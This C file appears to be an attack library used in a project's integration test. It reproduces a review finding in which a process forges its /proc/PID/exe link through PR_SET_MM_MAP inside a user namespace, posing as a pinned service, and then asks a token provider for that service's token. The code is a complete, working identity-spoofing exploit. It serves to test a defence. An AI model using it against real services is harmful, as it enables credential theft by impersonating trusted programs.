// exeforge: the attack of finding 16 (issue 21's review) on a pinned service,
// built as a preloaded library (tests/integration/exe_pin_test.go): a process
// running code that is not the pinned program makes its /proc/PID/exe name the
// pinned file without exec (PR_SET_MM_MAP's exe_fd, which needs
// CAP_SYS_ADMIN or CAP_CHECKPOINT_RESTORE only in a user namespace of the
// caller's own), then asks the token provider for the service's token and
// prints its answer. It first unmaps its host program's mappings (the kernel's
// other condition), so from then on only this library's code runs. A
// CLONE_VM|CLONE_NEWUSER child changes the shared mm: the caller itself stays
// in the initial user namespace.
//
// Environment: PINNED, the pinned file; SOCK, the provider's socket. Link it
// with -z now: once its host program is unmapped, the dynamic linker cannot
// resolve a symbol lazily any more.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
#include <linux/prctl.h>

static int exefd;
static struct prctl_mm_map map;

static void fill_map(void) {
	char buf[4096]; int fd = open("/proc/self/stat", O_RDONLY); int n = read(fd, buf, sizeof buf - 1); close(fd); buf[n] = 0;
	char *p = strrchr(buf, ')') + 2; unsigned long v[64]; int i = 3; // field 3 onwards
	for (char *t = strtok(p, " "); t && i < 60; t = strtok(NULL, " "), i++) v[i] = strtoul(t, NULL, 10);
	memset(&map, 0, sizeof map);
	map.start_code = v[26]; map.end_code = v[27]; map.start_stack = v[28];
	map.start_data = v[45]; map.end_data = v[46]; map.start_brk = v[47];
	map.arg_start = v[48]; map.arg_end = v[49]; map.env_start = v[50]; map.env_end = v[51];
	map.brk = (unsigned long)sbrk(0); if (map.brk < map.start_brk) map.brk = map.start_brk;
	map.exe_fd = exefd;
}

static void unmap_exe(void) {
	char exe[4096]; ssize_t l = readlink("/proc/self/exe", exe, sizeof exe - 1); exe[l] = 0;
	FILE *f = fopen("/proc/self/maps", "r"); char line[8192]; unsigned long r[64][2]; int n = 0;
	while (fgets(line, sizeof line, f)) {
		unsigned long a, b; char path[4096] = "";
		sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &a, &b, path);
		if (strcmp(path, exe) == 0) { r[n][0] = a; r[n][1] = b; n++; }
	}
	fclose(f);
	for (int i = 0; i < n; i++) munmap((void *)r[i][0], r[i][1] - r[i][0]);
}


static int child(void *arg) {
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&map, sizeof map, 0) != 0) { dprintf(2, "%s failed: errno %d\n", "child prctl", errno); _exit(1); }
	_exit(0);
}

__attribute__((constructor)) static void forge(void) {
	const char *pinned = getenv("PINNED"), *sock = getenv("SOCK");
	if (!pinned || !sock) return;
	unsetenv("LD_PRELOAD");
	exefd = open(pinned, O_RDONLY | O_CLOEXEC);
	if (exefd < 0) { dprintf(1, "forge: open %s: errno %d\n", pinned, errno); _exit(3); }
	unmap_exe();
	fill_map();
	char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pid_t c = clone(child, stack + (1 << 16), CLONE_VM | CLONE_NEWUSER | SIGCHLD, NULL);
	if (c < 0) { dprintf(1, "forge: clone CLONE_NEWUSER: errno %d\n", errno); _exit(4); }
	int st; waitpid(c, &st, 0);
	if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) { dprintf(1, "forge: the child could not set exe_fd\n"); _exit(5); }
	char exe[4096]; ssize_t l = readlink("/proc/self/exe", exe, sizeof exe - 1); exe[l < 0 ? 0 : l] = 0;
	dprintf(1, "forged exe=%s\n", exe);
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	strncpy(a.sun_path, sock, sizeof a.sun_path - 1);
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { dprintf(1, "forge: connect: errno %d\n", errno); _exit(6); }
	const char req[] = "{\"v\":1}\n";
	write(s, req, sizeof req - 1);
	char buf[65536]; ssize_t n, total = 0;
	while ((n = read(s, buf + total, sizeof buf - 1 - total)) > 0) total += n;
	buf[total] = 0;
	dprintf(1, "answer %s\n", buf);
	_exit(0);
}
